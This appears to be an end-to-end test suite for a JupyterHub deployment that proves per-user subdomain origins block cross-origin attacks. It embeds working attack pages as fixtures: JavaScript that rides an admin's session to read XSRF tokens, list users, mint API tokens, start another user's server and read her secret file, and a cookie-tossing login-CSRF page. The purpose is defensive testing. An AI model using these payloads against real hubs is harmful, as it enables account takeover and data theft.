"""Per-user origins (jh_user_subdomains) on a real target: a wildcard certificate from Pebble by DNS-01
through BIND (certbot's RFC 2136 plugin on the target, tests/dns.py), and a page served by bob's own
server, opened in Chromium by the signed-in admin, attacking the hub with her session: it succeeds
under the hub's origin (path-based serving) and fails once each server has an origin of its own."""

from __future__ import annotations

import json
import socket
import ssl
import threading
import time
from pathlib import Path

import requests
from cryptography import x509

from tests.browser import browser_page
from tests.e2e.conftest import run_pyinfra
from tests.e2e.hub_client import HubClient
from tests.e2e.origins import PEOPLE, client, deploy

STOLEN = "stolen by a page"
# bob's handler, put in his own server's configuration (his ~/.jupyter): any page, no sandbox.
EXTENSION = """
import os
from tornado import web

PAGE = open(os.path.join(os.path.dirname(__file__), "attack.html")).read()


class Page(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/html")
        self.finish(PAGE)


class Toss(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/html")
        self.finish(open(os.path.join(os.path.dirname(__file__), "toss.html")).read())


def _jupyter_server_extension_points():
    return [{"module": "attack_page"}]


def _load_jupyter_server_extension(serverapp):
    serverapp.web_app.add_handlers(".*$", [(serverapp.base_url + "attack", Page), (serverapp.base_url + "toss", Toss)])
"""
CONFIG = """
import os, sys
sys.path.insert(0, os.path.expanduser("~/.attack"))
c.ServerApp.jpserver_extensions.update({"attack_page": True})
"""
# What the page's scripts try with the visitor's (the admin's) session: the hub is ?hub=, "" when
# the page is under the hub's own origin.
PAGE = """<!doctype html><html><body><pre id="result">running</pre><script>
const hub = new URLSearchParams(location.search).get("hub") || "";
const out = {};
let xsrf = "", token = null;
const headers = () => token ? {Authorization: "token " + token} : {"X-XSRFToken": xsrf};
async function step(name, attempt) {
  try { out[name] = await attempt(); } catch (error) { out[name] = "error: " + error; }
}
(async () => {
  await step("xsrf", async () => {
    const page = await (await fetch(hub + "/hub/home", {credentials: "include"})).text();
    const found = page.match(/xsrf_token: "([^"]+)"/);
    xsrf = found ? found[1] : "";
    return xsrf ? "read" : "absent";
  });
  await step("users", async () => {
    const r = await fetch(hub + "/hub/api/users", {credentials: "include", headers: headers()});
    return r.ok ? (await r.json()).map(u => u.name) : "status " + r.status;
  });
  await step("token", async () => {
    const r = await fetch(hub + "/hub/api/users/alice/tokens", {
      method: "POST", credentials: "include", headers: {...headers(), "Content-Type": "application/json"},
      body: JSON.stringify({note: "STOLEN", expires_in: 3600})});
    if (!r.ok) return "status " + r.status;
    token = (await r.json()).token;
    return "made";
  });
  await step("start", async () => {
    const r = await fetch(hub + "/hub/api/users/carol/server", {method: "POST", credentials: "include", headers: headers()});
    return "status " + r.status;
  });
  await step("read", async () => {
    for (let i = 0; i < 30; i++) {
      const r = await fetch(hub + "/user/carol/api/contents/secret.txt", {credentials: "include", headers: headers()});
      if (r.ok) return (await r.json()).content;
      await new Promise(resolve => setTimeout(resolve, 1000));
    }
    return "never";
  });
  document.getElementById("result").textContent = JSON.stringify(out);
})();
</script></body></html>
""".replace("STOLEN", STOLEN)


def plant_attack(host) -> None:
    """bob's own configuration: an extension of his server that serves the page."""
    host.sh("install -d -o bob -g bob -m 700 /home/bob/.attack /home/bob/.jupyter")
    for path, text in (
        ("/home/bob/.attack/attack_page.py", EXTENSION),
        ("/home/bob/.attack/attack.html", PAGE),
        ("/home/bob/.jupyter/jupyter_server_config.py", CONFIG),
    ):
        host.sh(f"cat > {path} <<'JHD_EOF'\n{text}\nJHD_EOF\nchown bob:bob {path}")
    host.sh(
        "install -o carol -g carol -m 600 /dev/null /home/carol/secret.txt && echo carol-secret > /home/carol/secret.txt"
    )


def attack_as_the_admin(host, page_url: str) -> dict:
    """alice (an admin) signs in at the hub in Chromium, then opens the page bob's server serves."""
    resolve = {host.domain: host.address, f"*.{host.domain}": host.address}
    with browser_page(timeout_ms=120_000, resolve=resolve, ignore_https_errors=True) as page:
        page.goto(f"https://{host.domain}/hub/login")
        page.fill("#username_input", "alice")
        page.fill("#password_input", PEOPLE["alice"])
        with page.expect_navigation():
            page.click("#login_submit")
        page.goto(page_url)
        page.wait_for_function("document.getElementById('result').textContent !== 'running'", timeout=120_000)
        return json.loads(page.locator("#result").text_content())


def stolen_tokens(admin: HubClient) -> list[dict]:
    tokens = admin.api("GET", "/hub/api/users/alice/tokens").json()["api_tokens"]
    return [token for token in tokens if token.get("note") == STOLEN]


def carol_running(admin: HubClient) -> bool:
    return bool(admin.api("GET", "/hub/api/users/carol").json()["servers"])


def test_under_the_hub_s_origin_a_server_s_page_acts_with_the_admin_s_session(origins_site, workdir):
    origins_site.inventory, result = deploy(origins_site, workdir, "paths")
    assert result.returncode == 0, result.stderr[-4000:] + origins_site.journal()
    plant_attack(origins_site)
    client(origins_site, "carol")  # a person of the hub from her first sign-in
    bob = client(origins_site, "bob")
    bob.start_server()
    admin = client(origins_site, "alice")
    found = attack_as_the_admin(origins_site, f"https://{origins_site.domain}/user/bob/attack")
    # The page reads the hub's pages, lists everyone and mints a token in the admin's name.
    assert found["xsrf"] == "read", found
    assert "carol" in found["users"], found
    assert found["token"] == "made" and stolen_tokens(admin), found
    # Cleared for the next test: the token, carol's server if the page started it.
    for token in stolen_tokens(admin):
        admin.api("DELETE", f"/hub/api/users/alice/tokens/{token['id']}")
    # Servers started under the hub's origin keep its address: none runs into per-user origins.
    for name in ("alice", "bob", "carol"):
        admin.api("DELETE", f"/hub/api/users/{name}/server")


def test_wildcard_dns_missing_stops_the_run_before_any_change(origins_site, workdir, pebble):
    """A name whose zone has no *.<name>: refused, naming the setting; the host is as it was."""
    other = "jhd-test-nowild.test"
    pebble.dns.add_zone(other, {"@": origins_site.address})
    watched = ("/etc/nginx", "/etc/letsencrypt", "/opt/jupyter/hub.json")
    before = origins_site.snapshot(*watched)
    _, refused = deploy(
        origins_site, workdir, "nowild", jh_domain=other, jh_user_subdomains=True, jh_dns01=origins_site.dns01
    )
    assert refused.returncode != 0
    assert "jh_user_subdomains: jhd-check-" in refused.stderr and f".{other} has no address" in refused.stderr
    without = ("jh_domain", "jh_acme_email", "jh_services")
    _, no_domain = deploy(origins_site, workdir, "nodomain", without, jh_user_subdomains=True)
    assert no_domain.returncode != 0 and "jh_user_subdomains needs jh_domain" in no_domain.stderr
    _, no_dns01 = deploy(origins_site, workdir, "nodns01", jh_user_subdomains=True)
    assert no_dns01.returncode != 0 and "needs jh_dns01" in no_dns01.stderr
    _, sharing = deploy(origins_site, workdir, "sharing", jh_sharing=True)
    assert sharing.returncode != 0 and "jh_sharing needs jh_user_subdomains = True" in sharing.stderr
    assert origins_site.snapshot(*watched) == before


def served_certificate(host, name: str) -> x509.Certificate:
    context = ssl.create_default_context(cafile=host.ca_bundle)
    with (
        socket.create_connection((host.address, 443), timeout=10) as raw,
        context.wrap_socket(raw, server_hostname=name) as tls,
    ):
        return x509.load_der_x509_certificate(tls.getpeercert(binary_form=True))


def test_the_wildcard_certificate_comes_by_dns_01_and_a_second_run_changes_nothing(origins_hub):
    host = origins_hub
    names = served_certificate(host, f"bob.{host.domain}").extensions.get_extension_for_class(
        x509.SubjectAlternativeName
    )
    assert set(names.value.get_values_for_type(x509.DNSName)) == {host.domain, f"*.{host.domain}"}
    credentials = host.sh(
        "stat -c '%U %a' /etc/letsencrypt/jupyterhub-dns01 /etc/letsencrypt/jupyterhub-dns01/rfc2136.ini"
    )
    assert credentials.split("\n")[:2] == ["root 700", "root 600"]
    again = run_pyinfra(Path(host.inventory))
    assert again.returncode == 0, again.stderr[-4000:]
    assert again.totals["success"] == 0, again.changed_operations()


def test_under_per_user_origins_the_page_gets_nothing_of_the_admin_s(origins_hub):
    host = origins_hub
    bob = client(host, "bob")
    bob.start_server()
    admin = client(host, "alice")
    # The hub sends people to bob's server on his own origin.
    moved = bob.get("/user/bob/attack")
    assert moved.url.startswith(f"https://bob.{host.domain}/user/bob/attack") and STOLEN in moved.text, moved.url
    found = attack_as_the_admin(host, f"https://bob.{host.domain}/user/bob/attack?hub=https://{host.domain}")
    assert found["xsrf"] != "read" and not isinstance(found["users"], list), found
    assert found["token"] != "made" and found["read"] != "carol-secret\n", found
    # Checked on the hub: no token in the admin's name, carol's server never started.
    assert stolen_tokens(admin) == [] and not carol_running(admin)
    # The hub's pages are not served on a server's origin: its sign-in there is sent to the hub's.
    elsewhere = requests.get(
        f"https://bob.{host.domain}/hub/login", verify=host.ca_bundle, allow_redirects=False, timeout=30
    )
    assert elsewhere.status_code == 302 and elsewhere.headers["Location"] == f"https://{host.domain}/hub/login"


# bob's page on his own origin: it sets, for the hub's name, a session id and the hub's XSRF cookie
# that bob got for it, then posts the hub's sign-in form with his own name and password.
TOSS = """<!doctype html><html><body>
<form id="login" method="post" action="https://DOMAIN/hub/login?next=%2Fhub%2Fapi%2Fuser">
<input name="username" value="bob"><input name="password" value="PASSWORD"><input name="_xsrf" value="TOKEN">
</form><script>
document.cookie = "jupyterhub-session-id=SESSION; domain=DOMAIN; path=/; secure";
document.cookie = "_xsrf=TOKEN; domain=DOMAIN; path=/hub/; secure";
document.getElementById("login").submit();
</script></body></html>
"""
LAB_BROWSER = "Mozilla/5.0 (the lab's browser)"


def toss(host, session: str):
    """bob's page, with the hub's XSRF cookie he got for session, opened in a fresh browser (carol's,
    signed out, so with no XSRF cookie of the hub's own, which would come first); what the hub's
    name then answered the form, and who the browser is at the hub (its API's answer)."""
    form = requests.get(
        f"https://{host.domain}/hub/login",
        headers={"User-Agent": LAB_BROWSER},
        cookies={"jupyterhub-session-id": session},
        verify=host.ca_bundle,
        timeout=30,
    )
    token = form.cookies["_xsrf"]
    assert f'value="{token}"' in form.text
    page_text = TOSS
    for name, value in (("DOMAIN", host.domain), ("PASSWORD", PEOPLE["bob"]), ("TOKEN", token), ("SESSION", session)):
        page_text = page_text.replace(name, value)
    host.sh(
        f"cat > /home/bob/.attack/toss.html <<'JHD_EOF'\n{page_text}\nJHD_EOF\nchown bob:bob /home/bob/.attack/toss.html"
    )
    resolve = {host.domain: host.address, f"*.{host.domain}": host.address}
    with browser_page(timeout_ms=120_000, resolve=resolve, ignore_https_errors=True, user_agent=LAB_BROWSER) as page:
        page.goto(f"https://bob.{host.domain}/user/bob/toss", wait_until="commit")
        page.wait_for_url(f"https://{host.domain}/hub/**")
        page.wait_for_load_state()
        answered = page.content()
        whoami = page.goto(f"https://{host.domain}/hub/api/user")
        return answered, whoami.status, page.content()


def test_a_server_s_page_cannot_sign_its_visitor_in_as_its_owner(origins_hub):
    """Login CSRF by cookie tossing: bob, in the same computer lab as carol (one address, one
    browser), gets the hub's XSRF cookie for a session id of his choosing; his page sets both for
    the hub's name (a subdomain's page may) and posts the sign-in form as him. Without nginx's rule
    it signs carol in as bob (shown with the rule taken out for a moment); with it, nginx refuses."""
    host = origins_hub
    site = "/etc/nginx/sites-available/jupyterhub"
    reload = "nginx -t -q && /opt/jupyter/libexec/reload-nginx"
    host.sh(f"cp -p {site} /root/site.kept && sed -i '/if ($jupyterhub_sent_by_a_server)/,+2d' {site} && {reload}")
    try:
        _, status, whoami = toss(host, "bobs-session")
    finally:
        host.sh(f"cp -p /root/site.kept {site} && {reload}")
    assert status == 200 and '"name": "bob"' in whoami.replace('":"', '": "'), (status, whoami[:500])

    answered, status, whoami = toss(host, "bobs-second-session")
    # nginx's refusal (the hub's own, for a bad XSRF token, would be its page).
    assert "403 Forbidden" in answered and "<center>nginx" in answered, answered[:2000]
    assert status == 403, (status, whoami[:500])


def test_a_forced_renewal_under_load_serves_the_new_certificate_without_a_failed_request(origins_hub):
    host = origins_hub
    before = served_certificate(host, f"bob.{host.domain}").serial_number
    failures, done, count = [], threading.Event(), [0]

    def load():
        while not done.is_set():
            try:
                requests.get(f"https://{host.domain}/hub/health", verify=host.ca_bundle, timeout=10).raise_for_status()
                count[0] += 1
            except requests.RequestException as error:
                failures.append(repr(error))

    workers = [threading.Thread(target=load) for _ in range(4)]
    for worker in workers:
        worker.start()
    try:
        renewed = host.sh(
            f"certbot renew --force-renewal --no-random-sleep-on-renew --cert-name {host.domain}-wildcard 2>&1"
        )
    finally:
        time.sleep(2)
        done.set()
        for worker in workers:
            worker.join()
    assert "Congratulations, all renewals succeeded" in renewed or "all renewals succeeded" in renewed, renewed
    assert served_certificate(host, f"bob.{host.domain}").serial_number != before
    assert count[0] > 0 and failures == [], failures[:5]
